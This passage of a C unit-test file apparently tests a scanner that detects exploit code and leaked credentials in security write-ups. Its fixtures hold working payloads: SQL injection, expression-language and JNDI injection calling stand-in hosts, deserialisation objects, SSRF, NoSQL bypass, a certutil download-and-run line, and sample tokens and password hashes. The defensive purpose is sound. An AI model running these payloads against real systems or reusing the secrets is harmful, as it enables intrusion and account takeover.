        "把 sort 参数换成 `(select*from(select(benchmark(9000000,md5(1))))b)` 即可。\n",
        /* expression languages reaching execution */
        "```\n${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#c='ls')}\n```\n",
        "```\n#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}\n```\n",
        "```\n<#assign cmd=\"freemarker.template.utility.Execute\"?new()>${cmd(\"uname\")}\n```\n",
        "参数：`view=__${T(java.lang.Runtime).getRuntime().exec(\"whoami\")}__::.k`\n",
        /* JNDI at a real host, nested lookups, dns */
        "payload: `${jndi:ldap://c2.northwind-fict.net:1389/Obj}`\n",
        "```\nX-Forwarded-For: ${jndi:ldap://${env:HOSTNAME}.q9.dnslog.cn/x}\n```\n",
        "在用户名处填入 `${jndi:dns://probe.fict-oob.org}` 即可。\n",
        /* deserialisation objects */
        "```\n{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://oob.fict.cn/"
        "E\"}\n"
        "```\n",
        "```\nO:7:\"Session\":1:{s:3:\"cmd\";s:2:\"id\";}\n```\n",
        "把 Cookie 改为 `O:5:\"Cache\":1:{s:4:\"path\";s:9:\"/tmp/a.php\";}` 即可。\n",
        /* H2, gopher, NoSQL, extension cuts, shell separators */
        "```\njdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://oob.fict.cn/a.sql'\n```\n",
        "在 img 参数填入 `gopher://10.1.1.5:6379/_%2A2%0D%0A%244%0D%0Ainfo%0D%0A` 即可。\n",
        "```\nPOST /api/auth HTTP/1.1\nHost: "
        "10.2.3.4\n\n{\"user\":{\"$gt\":\"\"},\"pass\":{\"$gt\":\"\"}}\n"
        "```\n",
        "```\nGET /login?user[$ne]=x&pass[$ne]=x HTTP/1.1\n```\n",
        "上传时把文件名改为 `cmd.aspx::$DATA` 即可绕过。\n",
        "```\nContent-Disposition: form-data; name=\"f\"; filename=\"x.jsp%00.png\"\n```\n",
        "在 IP 输入框输入 `10.0.0.1 ; whoami` 即可回显。\n",
    };
    static const char *const clean[] = {
        /* SQL and code that only look like it */
        "```sql\nSELECT * FROM t WHERE name = 'bob' AND age > 3 -- adults\n```\n",
        "```python\nvalue = cfg.get('a') or 'b'  # default\n```\n",
        "```c\nif (ok(a) && check_password(b)) return;\n```\n",
        "输入用户名 admin 和密码即可登录。\n",
        /* payloads named without their working string */
        "利用 `${jndi:ldap://...}` 这类查找即可触发。\n",
        "payload: `${jndi:ldap://attacker:1389/a}`\n",
        "SpEL 的 `T(java.lang.Runtime)` 类型引用可被滥用。\n",
        "```\n{\"@type\":\"com.fict.User\",\"name\":\"x\"}\n```\n",
        "```\nO:3:\"Session\":1:{s:3:\"cmd\";}\n```\n",
        "`gopher://` 协议常被用于 SSRF。\n",
        "```js\ndb.users.find({\"age\": {\"$gt\": 18}})\n```\n",
        "```\nls -la | cat /etc/passwd\n```\n",
        /* defensive blocks quote payloads so they can be matched */
        "```\nSecRule ARGS \"@contains ' or '1'='1\" \"id:1001,deny\"\n```\n",
        "```sigma\ndetection:\n  sel:\n    q|contains: \"' or '1'='1\"\n  condition: sel\n"
        "logsource:\n  category: webserver\n```\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
        if (count_block(found[i], "exploit_code") == 0)
            T_FAIL_AT("no exploit_code in: %s", found[i]);
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
        if (count_rule(clean[i], "exploit_code", NULL) != 0)
            T_FAIL_AT("exploit_code in: %s", clean[i]);
}

/* The classifier reads at most EMB_PAYLOAD_MAX bytes: a span of exactly that
 * length is judged, one byte more is not (the validator windows long lines). */
static void
test_payload_bounds(void)
{
    static const char tail[] = "1' and sleep(5)-- -";
    char buf[EMB_PAYLOAD_MAX + 2];
    size_t m = sizeof tail - 1;

    memset(buf, 'a', sizeof buf);
    buf[0] = ' ';
    memcpy(buf + EMB_PAYLOAD_MAX - m, tail, m);
    T_EQ_INT(emb_payload_classify(buf + EMB_PAYLOAD_MAX - m, m, 0), EMB_PL_SQL);
    T_EQ_INT(emb_payload_classify(buf, EMB_PAYLOAD_MAX, 0), EMB_PL_SQL);
    memmove(buf + 1, buf, EMB_PAYLOAD_MAX);
    T_EQ_INT(emb_payload_classify(buf, EMB_PAYLOAD_MAX + 1, 0), EMB_PL_NONE);
    T_EQ_INT(emb_payload_classify(buf, 0, 0), EMB_PL_NONE);
    /* a long code line still counts: the validator judges the window at the hit */
    {
        size_t n = 3 * EMB_PAYLOAD_MAX;
        char *doc = malloc(n + 16);
        T_OK(doc != NULL);
        if (doc == NULL)
            return;
        memcpy(doc, "```\n", 4);
        memset(doc + 4, 'b', n);
        memcpy(doc + 4 + n / 2, " 1' or '1'='1 ", 14);
        memcpy(doc + 4 + n, "\n```\n", 6);
        T_OK(count_block(doc, "exploit_code.payload_shape") == 1);
        free(doc);
    }
}

/* Commands and scripts whose payload is in the body, the download or the
 * bytes sent (review 13, D/E), and their twins. */
static void
test_payload_commands(void)
{
    static const char *const found[] = {
        "```\ncurl -s -X POST http://TARGET/fict/run --data 'command=whoami'\n```\n",
        "```\ncertutil.exe -urlcache -split -f http://203.0.113.9/u.exe %TEMP%\\u.exe & "
        "%TEMP%\\u.exe\n"
        "```\n",
        "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
        "c.send(b\"USER \" + b\"A\"*260 + struct.pack(\"<I\", 0x7c9d30d7) + b\"\\x90\"*8 + "
        "sc)\n```\n",
    };
    static const char *const clean[] = {
        "```\ncurl -X POST http://TARGET/fict/list -d 'sort=id'\n```\n",
        "```\ncertutil -urlcache -f http://203.0.113.9/tool.zip tool.zip\n```\n",
        "```\ncertutil -hashfile setup.exe SHA256\n```\n",
        "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
        "c.send(struct.pack(\"<I\", len(msg)) + msg)\n```\n",
        "```python\nfrom pwn import *\nio = process('./lab')\nio.sendline(b'A'*40 + "
        "p64(0x401136))\n"
        "```\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
        if (count_block(found[i], "exploit_code") == 0)
            T_FAIL_AT("no exploit_code in: %s", found[i]);
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
        if (count_rule(clean[i], "exploit_code", NULL) != 0)
            T_FAIL_AT("exploit_code in: %s", clean[i]);
}

static void
test_phone_table(void)
{
    T_EQ_INT(count_rule("| 姓名 | 手机号 | 地址 |\n|---|---|---|\n| 王强 | 15012345678 | 北京 |\n"
                        "| 赵敏 | 18698765432 | 上海 |\n",
                        "credential", NULL),
             2);
    T_EQ_INT(count_rule("| 部门 | 电话 |\n|---|---|\n| 安全响应中心 | 13800138000 |\n"
                        "| 客服 | 400-800-1234 |\n",
                        "credential", NULL),
             0);
    T_EQ_INT(
        count_rule("| 姓名 | 手机号 |\n|---|---|\n| 王强 | 150****5678 |\n| 赵敏 | 186****5432 |\n",
                   "credential", NULL),
        0);
}

/*
 * review12 M1 and F1: a default or weak login is judged by its context. Used
 * on a system (a host or URL on its line, "登录成功", "直接进入") it is a
 * leak, even when the password is a weak word ("nacos", "admin123"); named
 * in advice ("请修改默认密码", "Change the default credentials", a fix
 * section) it is documentation. A URL on the line never drops a pair.
 */
static void
test_review12_logins(void)
{
    static const char *const used[] = {
        "打开 http://121.40.77.31:8848/nacos ，用默认账号 nacos/nacos 登录即可看到配置。\n",
        "- Grafana: http://39.96.12.7:3000 admin / admin123\n",
        "The console at http://47.104.9.81/ still accepts the default credentials "
        "admin/Kx!2019pan, then the diagnostics page is injectable.\n",
        "管理后台 https://erp.halden-foods.cn/admin 弱口令 admin/admin888 直接进入。\n",
        "默认口令：nacos，登录 http://121.40.77.31:8848/nacos 后可以看到配置\n",
        "口令：123456，目标 http://47.104.9.81/manage 直接登录\n",
        "密码: root123（在 http://47.104.9.81/ 登录成功）\n",
        NULL
    };
    static const char *const advice[] = {
        "请修改默认密码 admin/admin，并禁用默认账号。\n",
        "Change the default credentials admin/admin right after installing.\n",
        "该设备默认账号密码为 admin/admin，建议首次登录后修改。\n",
        "# 漏洞\n\n说明。\n\n## 修复建议\n\n删除默认账号 admin/admin123。\n",
        "默认密码：admin123\n",
        "Rotate the admin password hashes) after https://docs.halden-net.com/hardening.\n",
        NULL
    };
    for (size_t i = 0; used[i] != NULL; i++)
        T_EQ_INT(count_rule(used[i], "credential", NULL) >= 1, 1);
    for (size_t i = 0; advice[i] != NULL; i++)
        T_EQ_INT(count_rule(advice[i], "credential", NULL), 0);
    /* a URL's port and path are no pair, even beside a login word */
    T_EQ_INT(count_rule("默认账号登录 http://121.40.77.31:8848/nacos 后可见配置\n",
                        "credential.pair", NULL),
             0);
    /* a link to a publishing host is no system: "key/passphrase" in a changelog */
    T_EQ_INT(count_rule("* Allow obvious key/passphrase pairs. "
                        "[#10294](https://github.com/nodejs/node/pull/10294)\n",
                        "credential", NULL),
             0);
    /* a web shell's own connection password is the shell author's */
    T_EQ_INT(
        count_rule("密码 rebeyond，默认密钥。连接地址：https://erp.halden-foods.cn/up/shell.jsp\n",
                   "credential", NULL),
        0);
}

/*
 * review12 M2: a password in prose, after a blank, 为, 是, 均为 or "was", is
 * judged by its shape; the words of the sentence ("password reset", "the
 * password hashes", "password SHA256") are none.
 */
static void
test_review12_prose_passwords(void)
{
    static const char *const found[] = {
        "连上访客 Wi-Fi（密码 gx77765432）后扫描内网。\n",
        "数据库密码为 Hr2023db，与后台相同。\n",
        "SFTP 账号 deploy 密码 Dep1oy2021，登录后可覆盖网站文件。\n",
        "The guest Wi-Fi password was harbor2024 and the admin password was the same.\n",
        "默认账号密码均为 tomcat，登录 http://47.104.9.81:8080/manager 后部署 war。\n",
        NULL
    };
    static const char *const clean[] = {
        "Use the password reset link in the e-mail.\n",
        "The password hashes are stored with password SHA256 and a salt.\n",
        "密码 MD5 加密后存储，密码为空时拒绝登录。\n",
        "Run pwd /home/user2 to see where you are.\n",
        "The password was changed by the administrator yesterday.\n",
        "默认账号密码均为 tomcat，部署后请修改。\n",
        NULL
    };
    for (size_t i = 0; found[i] != NULL; i++)
        T_EQ_INT(count_rule(found[i], "credential", NULL) >= 1, 1);
    for (size_t i = 0; clean[i] != NULL; i++)
        T_EQ_INT(count_rule(clean[i], "credential", NULL), 0);
}

/*
 * review12 M4: secrets after labels in any case and with '：', a blank, 为 or
 * 是; bearer tokens in prose; session and rememberMe cookies; chat bots'
 * webhook paths; OpenAI project keys, Telegram bot tokens and Oracle thin
 * connect strings. Placeholders, a key named as a default without a
 * system, a public key and Shiro's exploit cookie stay clean.
 */
static void
test_review12_labelled_secrets(void)
{
    static const char *const found[] = {
        "在 app.91c4.js 里找到 `sk-proj-Rt5vN8qW2xL7mK3pZ9cB4dF6hJ1gS0aE2uY7iO`。\n",
        "https://open.feishu.cn/open-apis/bot/v2/hook/2b9e4f17-8c3d-4a6b-b1e0-7f5d3c9a2e81\n",
        "https://discord.com/api/webhooks/1093847561029384756/"
        "Wp3xR7tY1uI9oP2aS5dF8gH4jK6lZ0xC3vB7nM1qW5eR9tY2uI6oP8aS4dF\n",
        "BOT_TOKEN=5987654321:AAFj3kL9mN2pQ7rS1tU5vW8xY4zA6bC0dE3\n",
        "App Secret：Rm4nQ8pL2vT6sW9bY1cZ5dF7hJ3aK0xE\n",
        "cookie 的 rememberMe 密钥硬编码为 7BwXjnGMVt1LUB4Lqstcbh== ，在配置类里。\n",
        "shiro 默认密钥 kPH+bIxk5D2deZiIxcaaaA== 未改，目标 http://47.104.9.81:8080 可直接打。\n",
        "调试时填入 Bearer 8e2d4a6c1f3b5e7d9a0c2e4f6b8d1a3c 后所有接口可调用\n",
        "SESSION=YTk0ZDI3ZjEtNGM4Yi00ZWI2LTk1ZjMtMGQ3YzJhOGU1YjFk; Path=/; HttpOnly\n",
        "Oracle 连接串 jdbc:oracle:thin:hr/Lion2024x@10.8.1.4:1521:orcl\n",
        NULL
    };
    static const char *const clean[] = {
        "App Secret：<your-app-secret>\n",
        "shiro 默认密钥 kPH+bIxk5D2deZiIxcaaaA== 是公开的，升级后请更换。\n",
        "The bearer token authentication is described below.\n",
        "公钥为 MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE8x1Y\n",
        "Shiro 反序列化：`Cookie: rememberMe=Yf4bQnP2v0m7k8XZa9QwErTy12`\n",
        "SESSION=deleteMe; Path=/\n",
        NULL
    };
    for (size_t i = 0; found[i] != NULL; i++)
        T_EQ_INT(count_rule(found[i], "credential", NULL), 1);
    for (size_t i = 0; clean[i] != NULL; i++)
        T_EQ_INT(count_rule(clean[i], "credential", NULL), 0);
}

/*
 * review12 M5: name:hash dump rows without a header line. Two or more rows,
 * or a dump word on the rows or above them, make each row a finding; one
 * digest with its algorithm's name ("sha256:<hash>") or one row with no
 * dump word is none.
 */
static void
test_review12_hash_rows(void)
{
    T_EQ_INT(count_rule("```\nadmin:0192023a7bbd73250516f069df18b500\n"
                        "chenjing:e10adc3949ba59abbe56e057f20f883e\n"
                        "zhaolei:25f9e794323b453885f5181f1b624d0b\n```\n",
                        "credential", NULL),
             3);
    T_EQ_INT(count_rule("# 脱库结果\n\n```\nroot:7c4a8d09ca3762af61e59520943dc26494f8941b\n```\n",
                        "credential", NULL),
             1);
    T_EQ_INT(count_rule("拖库得到 sunli:96e79218965eb72c92a549dd5a330112 等 800 条记录\n",
                        "credential", NULL),
             1);
    T_EQ_INT(count_rule("镜像 digest 为 "
                        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n",
                        "credential", NULL),
             0);
    T_EQ_INT(count_rule("```\nbuild:0192023a7bbd73250516f069df18b500\n```\n", "credential", NULL),
             0);
}

/*
 * review12 F2: values published as samples (jwt.io's example token, the
 * digests of the empty string, GB 11643's sample number) and a tutorial's
 * table of digests beside their plaintext are clean; a token with another
 * signature, a valid ID number and a dump of digests stay findings.
 */
static void
test_review12_published_samples(void)
{
    T_EQ_INT(
        count_rule("```\neyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6"
                   "IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_"
                   "adQssw5c\n```\n",
                   "credential", NULL),
        0);
    T_EQ_INT(count_rule("```\neyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJvcHMifQ."
                        "Qm3vT8kX1pR6sW9bY2cZ5dF7hJ0aK4xE3uN8iL6oP1q\n```\n",
                        "credential", NULL),
             1);
    T_EQ_INT(count_rule("GB 11643 给出的示例号码 11010519491231002X 用于说明校验位。\n",
                        "credential", NULL),
             0);
    T_EQ_INT(
        count_rule("| 明文 | md5 |\n|---|---|\n| （空串） | d41d8cd98f00b204e9800998ecf8427e |\n"
                   "| 123456 | e10adc3949ba59abbe56e057f20f883e |\n",
                   "credential", NULL),
        0);
    T_EQ_INT(
        count_rule("| 用户 | md5 |\n|---|---|\n| chenjing | e10adc3949ba59abbe56e057f20f883e |\n"
                   "| zhaolei | 25f9e794323b453885f5181f1b624d0b |\n",
                   "credential", NULL),
        2);
}

int
main(void)
{
    if (cu_engine_init(&E) != 0)
        return 1;
    T_RUN(test_ip_glued_to_chinese);
    T_RUN(test_ip_not_live);
    T_RUN(test_ioc_is_warning);
    T_RUN(test_ioc_role);
    T_RUN(test_product_before_address);
    T_RUN(test_continued_command);
    T_RUN(test_cmd_secrets);
    T_RUN(test_decode_run);
    T_RUN(test_urls);
    T_RUN(test_dorks);
    T_RUN(test_dork_chains);
    T_RUN(test_fanout_over_list);
    T_RUN(test_sale_contacts);
    T_RUN(test_pass7_shapes);
    T_RUN(test_credentials_masked);
    T_RUN(test_citations);
    T_RUN(test_fix_sentences);
    T_RUN(test_password_context);
    T_RUN(test_fleet_source);
    T_RUN(test_mass_scan_once);
    T_RUN(test_inline_suppression);
    T_RUN(test_inline_suppression_many);
    T_RUN(test_head_colon_lines);
    T_RUN(test_has_groups);
    T_RUN(test_hit_limit);
    T_RUN(test_sale_field_once);
    T_RUN(test_line_near);
    T_RUN(test_span_memo);
    T_RUN(test_huge_paragraph_windows);
    T_RUN(test_unicode_fold);
    T_RUN(test_redaction_masks);
    T_RUN(test_related_tail);
    T_RUN(test_range_sweep_and_list_prose);
    T_RUN(test_webshell_shapes);
    T_RUN(test_webshell_review12);
    T_RUN(test_incident_cleanup);
    T_RUN(test_file_args);
    T_RUN(test_perl_handle_reads);
    T_RUN(test_count_trend);
    T_RUN(test_argv_target);
    T_RUN(test_dork_leadin_lines);
    T_RUN(test_gating_channel);
    T_RUN(test_masked_hosts);
    T_RUN(test_pwntools);
    T_RUN(test_url_payload_prose);
    T_RUN(test_quoted_reportage);
    T_RUN(test_version_structure);
    T_RUN(test_literal_target_poc);
    T_RUN(test_shell_key);
    T_RUN(test_phone_table);
    T_RUN(test_payload_shapes);
    T_RUN(test_payload_bounds);
    T_RUN(test_payload_commands);
    T_RUN(test_redaction_roundtrip);
    T_RUN(test_review12_logins);
    T_RUN(test_review12_prose_passwords);
    T_RUN(test_review12_labelled_secrets);
    T_RUN(test_review12_hash_rows);
    T_RUN(test_review12_published_samples);
    T_RUN(test_homepage_by_structure);
    T_RUN(test_picture_urls);
    T_RUN(test_idn_hosts);
    cu_engine_free(&E);
    return T_DONE();
}
